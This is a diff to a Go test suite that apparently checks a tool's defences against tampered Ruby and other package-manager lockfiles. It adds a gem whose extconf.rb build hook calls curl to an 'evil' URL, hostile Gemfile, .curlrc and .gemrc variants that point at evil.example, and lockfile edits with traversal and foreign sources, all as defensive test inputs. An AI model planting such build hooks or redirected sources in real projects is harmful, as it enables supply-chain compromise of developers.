@@ -13,6 +13,7 @@ import (
 	"fmt"
 	"net/http"
 	"os"
+	"os/exec"
 	"path/filepath"
 	"strings"
 	"testing"
@@ -50,6 +51,23 @@ func (o *office) crates(mux *http.ServeMux) {
 		_, _ = fmt.Fprintf(w, `{"name":"nice","vers":"1.0.0","deps":[],"cksum":"%x","features":{},"yanked":false}`+"\n", sum)
 	})
 	mux.HandleFunc("/crates/nice/1.0.0/download", func(w http.ResponseWriter, _ *http.Request) { _, _ = w.Write(o.crate) })
+}
+
+// gems offers a gem whose building does what it can. Its building fails for it: nothing is compiled here.
+func (o *office) gems(mux *http.ServeMux) {
+	dir := filepath.Join(o.Dir, "gem")
+	o.Put(filepath.Join(dir, "nice.gemspec"), "Gem::Specification.new { |s| s.name = 'nice'; s.version = '1.0.0'; s.summary = 'x'; s.authors = ['d']; s.files = ['lib/nice.rb', 'ext/extconf.rb']; s.extensions = ['ext/extconf.rb'] }\n")
+	o.Put(filepath.Join(dir, "lib/nice.rb"), "X = 1\n")
+	o.Put(filepath.Join(dir, "ext/extconf.rb"), "`/usr/bin/curl -sk --max-time 5 https://rubygems.org/evil/ext`\nFile.write('"+o.Work+"/ran-ext', '')\nFile.write('Makefile', \"all:\\n\\ninstall:\\n\\nclean:\\n\")\n")
+	if _, err := exec.LookPath("gem"); err != nil {
+		return
+	}
+	o.Must("cd " + dir + " && gem build -q nice.gemspec 2>&1")
+	raw, err := os.ReadFile(filepath.Join(dir, "nice-1.0.0.gem"))
+	if err != nil {
+		o.t.Fatal(err)
+	}
+	mux.HandleFunc("/gems/nice-1.0.0.gem", func(w http.ResponseWriter, _ *http.Request) { _, _ = w.Write(raw) })
 }
 
 // locking is a lock of a manager's, and what somebody would write into it who has read what is fetched.
@@ -105,6 +123,22 @@ var lockings = map[string]locking{
 		refused: map[string]string{
 			"registry.yarnpkg.com": "evil.example", "https://registry": "git+ssh://registry", "/-/nice": "/../x/-/nice", "# yarn lockfile v1": "__metadata:\n  version: 8\n", "  integrity": "  resolved \"https://evil.example/x.tgz\"\n  integrity",
 			"\n  resolved": "\n  x", "  version \"1.0.0\"": "  version \"file:../x\"", "nice@1.0.0:\n": "nice@1.0.0:\n  version \"1.0.0\"\nworse@1.0.0:\n",
+		},
+	},
+	"bundle": {
+		needs: []string{"bundle", "gem", "curl"}, list: "Gemfile.lock", line: "bundle install --quiet", hosts: []string{"rubygems.org"},
+		text: func(*office) string {
+			return "GEM\n  remote: https://rubygems.org/\n  specs:\n    nice (1.0.0)\n\nPLATFORMS\n  ruby\n  x86_64-linux\n\nDEPENDENCIES\n  nice (= 1.0.0)\n\nBUNDLED WITH\n   2.3.15\n"
+		},
+		files: map[string]string{"Gemfile": "source 'https://rubygems.org'\ngem 'nice', '1.0.0'\n", ".bundle/config": "---\nBUNDLE_PATH: \"vendor/bundle\"\n"},
+		hostile: map[string]string{
+			"Gemfile": "`/usr/bin/curl -sk --max-time 5 https://rubygems.org/evil/gemfile`\nsource 'https://evil.example'\ngem 'nice'\n", "bin/curl": curls, "bin/bundle": curls, ".curlrc": "url = https://rubygems.org/evil/curlrc\n", ".gemrc": ":sources: [https://evil.example/]\n",
+		},
+		brought: "vendor/bundle", ran: "ran-ext",
+		asked: map[string]string{"nice (1.0.0)": "nice (1.0.1)", "    nice (": "    worse ("},
+		refused: map[string]string{
+			"remote: https://rubygems.org/": "remote: https://evil.example/", "GEM\n": "GIT\n  remote: https://evil.example/x\n  revision: 1\n  specs:\n    x (1)\n\nGEM\n", "  specs:\n": "  remote: https://evil.example/\n  specs:\n", "(1.0.0)\n\n": "(../../x)\n\n",
+			"    nice (1.0.0)": "    nice (1.0.0)\n    ../x (1.0.0)", "PLATFORMS": "PLUGIN SOURCE\n  remote: x\n  type: y\n\nPLATFORMS", "BUNDLED WITH": "<<<<<<< HEAD\nBUNDLED WITH",
 		},
 	},
 	"cargo": {
@@ -172,6 +206,9 @@ func (l *locking) attacked(o *office) {
 	for file := range l.hostile {
 		if err := os.RemoveAll(filepath.Join(o.Work, file)); err != nil {
 			o.t.Fatal(err)
+		}
+		if text, ok := l.files[file]; ok {
+			o.Put(filepath.Join(o.Work, file), text)
 		}
 	}
 }
